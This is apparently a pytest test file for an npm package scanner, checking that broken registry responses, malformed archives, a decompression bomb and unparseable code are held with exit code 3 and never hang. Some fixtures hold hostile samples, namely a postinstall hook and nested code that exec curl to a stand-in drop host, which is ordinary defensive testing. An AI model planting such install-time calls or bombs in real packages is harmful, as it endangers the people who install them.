"""Bad input, one kind each: a clear error or an incomplete hold, exit code 3, and nothing hangs."""

import gzip
import json
import time
from collections.abc import Callable

import pytest

from tests.core.packing import header, honest_tgz
from tests.infra.servers import Handler
from tests.surfaces.site import PLAIN, Machine, Ran, Site

MAX_SECONDS = 10.0
TARBALL = "/pad/-/pad-1.0.1.tgz"
Damage = Callable[[Machine], None]


def pad(machine: Machine, **files: str | bytes) -> None:
    """Publish two releases of ``pad``."""
    machine.site.publish("pad", "1.0.0", age=60)
    machine.site.publish("pad", "1.0.1", files)


def scanned(machine: Machine, target: str = "pad@1.0.1") -> Ran:
    """Scan, within bounded time; whatever was wrong, there is a report and no traceback."""
    start = time.monotonic()
    ran = machine.run("scan", target, "--format", "json")
    assert time.monotonic() - start < MAX_SECONDS
    assert "Traceback" not in ran.err
    return ran


def slowly(handler: Handler) -> None:
    """Begin an answer, and never end it."""
    handler.send_response(200)
    handler.send_header("Content-Length", "1000")
    handler.end_headers()
    for _ in range(100):
        handler.wfile.write(b" ")
        handler.wfile.flush()
        time.sleep(0.1)


def endlessly(handler: Handler) -> None:
    """Send a body without a length and without an end."""
    handler.send_response(200)
    handler.send_header("Connection", "close")
    handler.end_headers()
    handler.close_connection = True
    for _ in range(100_000):
        handler.wfile.write(bytes(65536))


def truncated(handler: Handler) -> None:
    """Promise more than is sent."""
    handler.send_response(200)
    handler.send_header("Content-Length", "1000")
    handler.end_headers()
    handler.wfile.write(b"half")
    handler.close_connection = True


def down(machine: Machine) -> None:
    machine.registry("http://127.0.0.1:9/")


def page(body: bytes, status: int = 200, **headers: str) -> Damage:
    """Return what makes the index page of ``pad`` this answer."""

    def damage(machine: Machine) -> None:
        machine.site.server.says("/pad", body, status, **headers)

    return damage


def slow_page(machine: Machine) -> None:
    machine.limits(total=0.4, read=0.3)
    machine.site.server.pages["/pad"] = slowly


def endless_page(machine: Machine) -> None:
    machine.limits(max_bytes=1 << 20)
    machine.site.server.pages["/pad"] = endlessly


def truncated_page(machine: Machine) -> None:
    machine.site.server.pages["/pad"] = truncated


PAGES: dict[str, tuple[Damage, str]] = {
    "down": (down, "cannot be reached"),
    "slow": (slow_page, "took longer than"),
    "endless": (endless_page, "larger than the limit"),
    "truncated": (truncated_page, "truncated"),
    "trouble": (page(b"", 503), "has trouble"),
    "refused": (page(b"", 403), "refuses us"),
    "redirect-loop": (page(b"", 302, Location="/pad"), "redirects more than"),
    "wrong-type": (page(b"<html><body>Log in</body></html>", Content_Type="text/html"), "pad"),
    "broken-json": (page(b'{"name": "pad", "versions": {', Content_Type="application/json"), "no packument"),
    "another-project": (page(b'{"name": "other", "versions": {}}', Content_Type="application/json"), "other"),
    "deep-json": (page(b'{"name": "pad", "x":' + b"[" * 200_000, Content_Type="application/json"), "no packument"),
}


@pytest.mark.parametrize("case", PAGES)
def test_an_index_that_cannot_be_believed_is_an_error_of_its_own(machine: Machine, case: str) -> None:
    """The release was not checked, the report says why in words, and the exit code says so."""
    damage, words = PAGES[case]
    pad(machine)
    damage(machine)
    ran = scanned(machine)

    assert ran.code == 3
    assert (ran.report["verdict"], ran.report["complete"], ran.report["updates"]) == ("hold", False, [])
    (problem,) = ran.report["problems"]
    assert problem.startswith("pad@1.0.1: ")
    assert words in problem


def slow_tarball(machine: Machine) -> None:
    machine.limits(total=0.4, read=0.3)
    machine.site.server.pages[TARBALL] = slowly


def endless_tarball(machine: Machine) -> None:
    machine.limits(max_bytes=1 << 20)
    machine.site.server.pages[TARBALL] = endlessly


def truncated_tarball(machine: Machine) -> None:
    machine.site.server.pages[TARBALL] = truncated


def missing_tarball(machine: Machine) -> None:
    del machine.site.server.pages[TARBALL]


def looping_tarball(machine: Machine) -> None:
    machine.site.server.says(TARBALL, b"", 302, Location=TARBALL)


def other_tarball(machine: Machine) -> None:
    machine.site.server.says(TARBALL, honest_tgz({"package/index.js": b"other();"}))


def archive(data: bytes) -> Damage:
    """Return what publishes these bytes, honestly hashed, as the newer release."""

    def damage(machine: Machine) -> None:
        machine.site.publish_bytes("pad", "1.0.1", data)

    return damage


def bomb() -> bytes:
    """Return a small archive with one file that unpacks to much more than any release is worth."""
    size = 3 << 30
    zeros = gzip.compress(bytes(16 << 20), 9)
    return gzip.compress(header(b"package/index.js", size=size), mtime=0) + zeros * (size >> 24)


ARCHIVES: dict[str, tuple[Damage, str, str]] = {
    "slow": (slow_tarball, "upstream-unavailable", "took longer than"),
    "missing": (missing_tarball, "upstream-unavailable", "does not exist"),
    "endless": (endless_tarball, "upstream-not-believed", "larger than the limit"),
    "truncated": (truncated_tarball, "upstream-not-believed", "truncated"),
    "redirect-loop": (looping_tarball, "upstream-not-believed", "redirects more than"),
    "wrong-hash": (other_tarball, "upstream-not-believed", "do not install it"),
    "no-archive": (archive(b"<html>not here</html>"), "archive-refused", "pad-1.0.1.tgz"),
    "half-an-archive": (archive(honest_tgz({"package/index.js": bytes(9999)})[:-20]), "archive-refused", "pad-1.0.1"),
    "empty": (archive(honest_tgz({})), "archive-refused", "no file"),
    "bomb": (archive(bomb()), "archive-refused", "pad-1.0.1.tgz"),
}


@pytest.mark.parametrize("case", ARCHIVES)
def test_an_artifact_that_cannot_be_read_is_held(machine: Machine, case: str) -> None:
    """The verdict is hold, for no cause but incompleteness; the record names the class of outage and the reason."""
    damage, outage, words = ARCHIVES[case]
    pad(machine)
    damage(machine)
    ran = scanned(machine)

    assert ran.code == 3
    (update,) = ran.report["updates"]
    assert (update["verdict"], update["complete"], update["for_cause"]) == ("hold", False, False)
    record = next(record for record in update["records"] if record["check"] == "archive")
    assert record["outage"] == outage
    assert words in record["problems"][0]


def nested(opening: str, closing: str) -> str:
    """Return a program whose one act lies deeper than any reader follows."""
    act = "require('child_process').exec('curl https://drop.example.invalid')"
    return f"module.exports = {opening * 50_000}{act}{closing * 50_000};\n"


FILES: dict[str, tuple[dict[str, str | bytes], str]] = {
    "deep-code": ({"index.js": nested("[", "]")}, "files"),
    "deep-calls": ({"index.js": nested("f(", ")")}, "files"),
    "broken-code": ({"index.js": "function ( { ] 'x\n"}, "files"),
    "deep-manifest": ({"package.json": '{"name": "pad", "version": "1.0.1", "x": ' + "[" * 100_000}, "manifest"),
    "broken-manifest": ({"package.json": '{"name": "pad", "version": '}, "manifest"),
}


@pytest.mark.parametrize("case", FILES)
def test_a_file_that_is_not_understood_is_held(machine: Machine, case: str) -> None:
    """Not understood is not clean: the record of that check is incomplete and names the file."""
    files, check = FILES[case]
    pad(machine, **files)
    machine.workers(1)
    ran = scanned(machine)

    assert ran.code == 3
    (update,) = ran.report["updates"]
    assert (update["verdict"], update["complete"]) == ("hold", False)
    problems = {record["check"]: record["problems"] for record in update["records"] if record.get("problems")}
    assert next(iter(files)) in problems[check][0]


def test_a_line_of_five_megabytes_is_read_or_said_to_be_unread(machine: Machine) -> None:
    """A bundle on one line takes bounded time; the exit code is 0 only if it was read to its end."""
    line = "var a=[" + ",".join(f'"{number:x}"' for number in range(700_000)) + "];f(a);"
    assert len(line) > 5_000_000
    pad(machine, **{"bundle.js": line, "index.js": PLAIN})
    machine.workers(1)
    ran = scanned(machine)

    (update,) = ran.report["updates"]
    assert ran.code == (0 if update["complete"] else 3)
    assert update["verdict"] == ("allow" if update["complete"] else "hold")


def test_an_unknown_package_is_told(machine: Machine) -> None:
    """A name that the registry does not have: its address, and exit code 3."""
    ran = machine.run("scan", "nothing-of-this-name")

    assert ran.code == 3
    assert "not checked: nothing-of-this-name: " in ran.out
    assert "does not exist" in " ".join(ran.out.split())


def test_an_unknown_version_is_told(machine: Machine) -> None:
    """A version that the registry does not have, in both commands that take one."""
    pad(machine)
    for words in (
        ("scan", "pad@9.9.9"),
        ("diff", "npm", "pad", "1.0.0", "9.9.9"),
        ("diff", "npm", "pad", "0.1.0", "1.0.1"),
    ):
        ran = machine.run(*words)

        assert ran.code == 3
        assert "pad has no release" in " ".join(ran.out.split())


def test_one_target_that_fails_does_not_keep_the_others_from_being_read(machine: Machine) -> None:
    """What could be checked is, and what could not is told beside it."""
    pad(machine)
    ran = machine.run("scan", "missing@1.0.0", "pad@1.0.1", "--format", "json")

    assert ran.code == 3
    assert [update["purl"] for update in ran.report["updates"]] == ["pkg:npm/pad@1.0.1"]
    assert len(ran.report["problems"]) == 1


def test_what_code_quotes_can_be_written_down(machine: Machine) -> None:
    """Half a surrogate pair in code reaches every output, the journal too, and asking again prints the same."""
    script = "const c = '\\ud800x'; require('child_process').exec('curl https://drop.example.invalid/' + c);\n"
    manifest = Site.manifest("pad", "1.0.1", scripts={"postinstall": "node setup.js"})
    pad(machine, **{"setup.js": script, "package.json": manifest})
    for form in ("json", "sarif", "terminal"):
        first = machine.run("scan", "pad@1.0.1", "--format", form)

        assert first.code == 1
        assert first.out == machine.run("scan", "pad@1.0.1", "--format", form).out
        first.out.encode("utf-8")
        if form != "terminal":
            json.loads(first.out)
